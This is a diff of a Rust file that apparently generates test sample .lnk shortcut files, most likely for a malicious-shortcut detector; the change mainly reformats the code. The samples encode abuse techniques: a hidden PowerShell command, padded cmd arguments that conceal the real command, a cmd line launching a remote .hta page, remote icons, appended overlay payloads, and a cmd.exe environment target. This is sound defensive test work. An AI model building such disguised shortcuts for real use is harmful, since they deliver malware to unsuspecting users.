@@ -107,21 +107,49 @@ pub fn samples() -> Vec<(&'static str, Vec<u8>)> {
             let notes = Lnk::new("C:\\Users\\Public\\Documents\\notes.txt");
             notes.with(|l| l.name = marker("lnk-clean")).build()
         }),
-        ("lnk-powershell.lnk", run(POWERSHELL, "lnk-powershell", "-NoProfile -WindowStyle Hidden -Command ").with(|l| l.show = 7).build()),
-        ("lnk-padded.lnk", run(CMD, "lnk-padded", &format!("{}/c ", " \t\n\r".repeat(80))).build()),
-        ("lnk-long.lnk", run(CMD, "lnk-long", &format!("/c rem {} & ", "x".repeat(400))).build()),
-        ("lnk-url.lnk", run(CMD, "lnk-url", "/c start https://files.example/page.hta & ").build()),
-        ("lnk-icon.lnk", run(CMD, "lnk-icon", "/c ").with(|l| l.icon = "https://icons.example/document.ico".to_owned()).build()),
-        ("lnk-overlay.lnk", run(CMD, "lnk-overlay", "/c ").with(|l| l.overlay = crate::payload("lnk-overlay").repeat(4)).build()),
+        (
+            "lnk-powershell.lnk",
+            run(POWERSHELL, "lnk-powershell", "-NoProfile -WindowStyle Hidden -Command ")
+                .with(|l| l.show = 7)
+                .build(),
+        ),
+        (
+            "lnk-padded.lnk",
+            run(CMD, "lnk-padded", &format!("{}/c ", " \t\n\r".repeat(80))).build(),
+        ),
+        (
+            "lnk-long.lnk",
+            run(CMD, "lnk-long", &format!("/c rem {} & ", "x".repeat(400))).build(),
+        ),
+        (
+            "lnk-url.lnk",
+            run(CMD, "lnk-url", "/c start https://files.example/page.hta & ").build(),
+        ),
+        (
+            "lnk-icon.lnk",
+            run(CMD, "lnk-icon", "/c ")
+                .with(|l| l.icon = "https://icons.example/document.ico".to_owned())
+                .build(),
+        ),
+        (
+            "lnk-overlay.lnk",
+            run(CMD, "lnk-overlay", "/c ")
+                .with(|l| l.overlay = crate::payload("lnk-overlay").repeat(4))
+                .build(),
+        ),
         ("lnk-environment.lnk", {
             let notes = Lnk::new("C:\\Users\\Public\\Documents\\notes.txt").with(|l| l.name = marker("lnk-environment"));
-            notes.with(|l| l.environment = Some("%SystemRoot%\\System32\\cmd.exe".to_owned())).build()
+            notes
+                .with(|l| l.environment = Some("%SystemRoot%\\System32\\cmd.exe".to_owned()))
+                .build()
         }),
     ]
 }
 
 const SHORTCUT: [u8; 16] = [0x01, 0x14, 0x02, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46];
-const MY_COMPUTER: [u8; 16] = [0xe0, 0x4f, 0xd0, 0x20, 0xea, 0x3a, 0x69, 0x10, 0xa2, 0xd8, 0x08, 0, 0x2b, 0x30, 0x30, 0x9d];
+const MY_COMPUTER: [u8; 16] = [
+    0xe0, 0x4f, 0xd0, 0x20, 0xea, 0x3a, 0x69, 0x10, 0xa2, 0xd8, 0x08, 0, 0x2b, 0x30, 0x30, 0x9d,
+];
 /// 2024-01-02 03:04:05 UTC as a FILETIME.
 const TIME: u64 = 133_486_454_450_000_000;
 
